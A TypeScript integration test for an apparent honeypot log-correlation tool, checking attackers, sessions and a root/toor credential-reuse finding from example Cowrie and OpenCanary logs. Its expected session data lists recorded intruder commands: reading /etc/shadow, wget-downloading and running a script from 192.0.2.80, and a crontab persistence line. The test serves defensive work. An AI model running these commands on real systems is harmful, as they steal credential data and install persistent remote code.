/**
 * The three example files through ingest, then correlate (CORRECTIONS #7.9): the
 * attackers, sessions and the credential-reuse finding of 198.51.100.23 (root/toor on
 * decky-01 ssh via Cowrie and on decky-02 via OpenCanary) that docs/analysis.md documents.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FakeClock, silentLogger } from '../../src/bus/index.js';
import { loadConfig } from '../../src/config/index.js';
import { openDatabase, type Db } from '../../src/db/index.js';
import { ingestFile } from '../../src/ingest/index.js';
import { REPO } from '../support/cli.js';
import { rig, sha, type Rig } from './support.js';

let home: string;
let db: Db;
let r: Rig;

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'dn-examples-'));
  const clock = new FakeClock(Date.UTC(2026, 4, 1, 13, 0, 0));
  const config = loadConfig({ env: { DECNET_HOME: home } });
  db = await openDatabase({ home, clock, log: silentLogger });
  r = await rig(db, clock);
  for (const file of ['cowrie.json', 'opencanary.json', 'rfc5424.log']) {
    await ingestFile({ db, bus: r.bus, config, log: silentLogger, clock, signal: new AbortController().signal }, { file: join(REPO, 'examples', file), format: 'auto', follow: false, fromStart: false });
  }
  await r.rec.settle();
});
afterAll(async () => {
  await r.close();
  await db.close();
  rmSync(home, { recursive: true, force: true });
});

describe('the examples, correlated', () => {
  it('gives the documented attackers, sessions and the credential-reuse finding', async () => {
    const first = await r.pass();
    const page = await db.repos.attackers.list({ limit: 100, offset: 0, sort: 'active' });
    expect(first).toMatchObject({ logRows: 34, credentialRows: 9, countedRows: 33, attackersCreated: 4, observed: 4, sessions: 2, findings: 1, orphans: 0 });
    const summary = page.items.map((a) => [a.ip, a.event_count, a.decky_count, a.service_count, a.traversal_path, a.credential_count, a.session_count, a.command_count]);
    expect(summary).toEqual([
      ['198.51.100.23', 20, 2, 1, 'decky-01 → decky-02', 7, 1, 4],
      ['203.0.113.7', 7, 1, 1, null, 1, 0, 0],
      ['192.0.2.61', 3, 2, 2, 'decky-02 → decky-03', 1, 0, 0],
      ['192.0.2.44', 3, 2, 2, 'decky-01 → decky-02', 0, 1, 0],
    ]);
    expect(r.rec.of('attacker.observed').map((o) => o.attacker_ip).sort()).toEqual(['192.0.2.44', '192.0.2.61', '198.51.100.23', '203.0.113.7']);
    const multi = page.items.find((a) => a.ip === '198.51.100.23');
    const sessions = await db.repos.attackers.sessions(multi?.id as string, { limit: 10, offset: 0 });
    expect(sessions.items.map((s) => s.commands.map((c) => c.command_text))).toEqual([
      ['uname -a', 'cat /etc/shadow', 'cd /tmp; wget http://192.0.2.80/bins.sh; chmod +x bins.sh; ./bins.sh', '(crontab -l; echo "*/5 * * * * /tmp/bins.sh") | crontab -'],
    ]);
    // the session row lists what ingest's attacker.session.ended carried: same ids, ts and text
    const ended = r.rec.of('attacker.session.ended').find((e) => e.attacker_ip === '198.51.100.23');
    expect((ended?.commands as Array<Record<string, unknown>>).map(({ id, ts, command_text }) => ({ id, command_text, ts }))).toEqual(sessions.items[0]?.commands);
    expect(sessions.items[0]).toMatchObject({ session_id: ended?.session_id, duration_s: ended?.duration_s, ended_at: ended?.ended_at, command_count: ended?.command_count });
    const findings = await db.repos.credentialReuse.list({ limit: 10, offset: 0 });
    expect(findings.items).toMatchObject([{ secret_sha256: sha('toor'), secret_kind: 'plaintext', principal: 'root', target_count: 2, attacker_count: 1 }]);
    const events = r.rec.of('credential.reuse.detected');
    expect(events).toMatchObject([{ reason: 'new', deckies: ['decky-01', 'decky-02'], services: ['ssh'], attacker_ips: ['198.51.100.23'], attacker_uuids: [multi?.id] }]);
    const second = await r.pass();
    expect(second).toMatchObject({ logRows: 0, credentialRows: 0, observed: 0, scored: 0, findings: 0 });
  });
});
